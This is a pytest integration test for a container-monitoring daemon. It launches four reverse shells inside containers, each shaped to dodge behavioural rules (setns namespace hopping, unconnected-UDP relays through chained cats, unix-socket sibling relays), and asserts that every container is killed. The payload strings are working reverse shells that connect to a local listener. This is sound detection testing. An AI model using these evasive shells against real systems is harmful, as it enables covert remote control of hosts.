"""Issue 16, class 6 (review 3): reverse shells shaped to sidestep the behaviour rules, each
done inside a real container watched by a real daemon with auto-kill, and each asserted to
end with the container killed for a behavioural reverse-shell rule:

- `sh -s x` with stdin and stderr on the connection, stdout on /dev/null (positional
  arguments made it "not reading commands", and only stdout counted);
- container root moves eth0 into a network namespace of its own, connects from there,
  setns() back and execs `sh -i` on the socket (the socket is in no table of the shell's
  namespace: the daemon now asks the socket itself);
- a relay on an unconnected UDP socket (sendto, never connected) feeding `sh -i` through
  four `cat`s each way (the pipe walk stopped at three hops, and an unconnected socket was
  not a connection);
- `sh -i` on a unix socket served by a sibling process that holds the TCP connection (only
  the shell's ancestors were looked at).

Network targets are the bridge address only (listeners started here).
"""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Iterator
from typing import Any

import pytest

from tests.integration.test_monitor import (
    BEHAVIOURAL,
    GATEWAY,
    Listener,
    Monitor,
    run_file,
    running_monitor,
)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the monitor daemon needs root")


@pytest.fixture(scope="module")
def evasion2_mon(
    run_prefix: str, incus: Any, image: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Monitor]:
    with running_monitor(f"{run_prefix}v", incus, image, tmp_path_factory) as monitor:
        yield monitor


SH_S = """import os, socket
s = socket.create_connection(("{host}", {port}))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 2)
os.dup2(os.open("/dev/null", os.O_WRONLY), 1)
os.execv("/bin/sh", ["sh", "-s", "x"])
"""

NETNS = """import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
home = os.open("/proc/self/ns/net", os.O_RDONLY)
assert libc.setns(os.open("/run/netns/x", os.O_RDONLY), 0x40000000) == 0
s = socket.create_connection(("{host}", {port}))
assert libc.setns(home, 0x40000000) == 0
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-i"])
"""
# eth0 (with its address) into namespace x; the default route is not needed for the bridge
NETNS_SETUP = (
    "ip netns add x; IP=$(ip -4 -o addr show eth0 | awk '{print $4}'); "
    "ip link set eth0 netns x; N='nsenter --net=/run/netns/x'; $N ip link set lo up; "
    "$N ip addr add $IP dev eth0; $N ip link set eth0 up; "
)

UDP_HOLDER = """import os, socket, threading
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # never connected: sendto/recvfrom
dest = ("{host}", {port})
s.sendto(b"hello", dest)
def up():
    while True:
        d = os.read(0, 4096)
        if not d:
            break
        s.sendto(d, dest)
threading.Thread(target=up, daemon=True).start()
while True:
    os.write(1, s.recvfrom(4096)[0])
"""
FOUR_CATS = "cat | cat | cat | cat"
DEEP = f"""rm -f /tmp/back; mkfifo /tmp/back
python3 /tmp/holder.py < /tmp/back | {FOUR_CATS} | sh -i 2>&1 | {FOUR_CATS} > /tmp/back
"""

UNIX_HOLDER = """import socket, threading
u = socket.socket(socket.AF_UNIX); u.bind("/tmp/relay.sock"); u.listen(1)
t = socket.create_connection(("{host}", {port}))
c, _ = u.accept()
def pump(a, b):
    while True:
        d = a.recv(4096)
        if not d:
            break
        b.sendall(d)
threading.Thread(target=pump, args=(c, t), daemon=True).start()
pump(t, c)
"""
UNIX_SHELL = """import os, socket, time
u = socket.socket(socket.AF_UNIX)
while True:
    try:
        u.connect("/tmp/relay.sock")
        break
    except OSError:
        time.sleep(0.02)
for n in (0, 1, 2):
    os.dup2(u.fileno(), n)
os.execv("/bin/sh", ["sh", "-i"])
"""


def attack(mon: Monitor, name: str, kind: str, port: int) -> None:
    fill = {"host": GATEWAY, "port": port}
    if kind == "sh-s-positional-stderr":
        mon.trigger(name, run_file("/tmp/p.py", SH_S.format(**fill), "python3"))
    elif kind == "socket-from-another-netns":
        mon.sh(name, NETNS_SETUP + "true")
        mon.trigger(name, run_file("/tmp/p.py", NETNS.format(**fill), "python3"))
    elif kind == "deep-pipe-relay-on-unconnected-udp":
        mon.incus.push_file(name, "/tmp/holder.py", UDP_HOLDER.format(**fill).encode())
        mon.trigger(name, run_file("/tmp/deep.sh", DEEP, "bash"))
    else:
        mon.incus.push_file(name, "/tmp/holder.py", UNIX_HOLDER.format(**fill).encode())
        mon.incus.push_file(name, "/tmp/shell.py", UNIX_SHELL.encode())
        mon.trigger(name, "python3 /tmp/holder.py & sleep 0.2; python3 /tmp/shell.py")


@pytest.mark.parametrize(
    "kind",
    [
        "sh-s-positional-stderr",
        "socket-from-another-netns",
        "deep-pipe-relay-on-unconnected-udp",
        "unix-socket-relay-to-a-sibling",
    ],
)
def test_reverse_shell_shapes_are_killed(evasion2_mon: Monitor, kind: str) -> None:
    mon = evasion2_mon
    name = mon.container()
    listener = Listener()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((GATEWAY, 0))
    try:
        udp_kind = kind == "deep-pipe-relay-on-unconnected-udp"
        attack(mon, name, kind, udp.getsockname()[1] if udp_kind else listener.port)
        record = mon.first_critical(name, timeout=30)
        print(f"\n{kind}: {record['rule_id']}: {record['description']}")
        assert record["rule_id"] in BEHAVIOURAL, record
        assert record["action"] == "killed", record
        if not udp_kind:
            assert f"{GATEWAY}:{listener.port}" in json.dumps(record["evidence"])
        mon.assert_status(name, "Gone")
    finally:
        udp.close()
        listener.close()
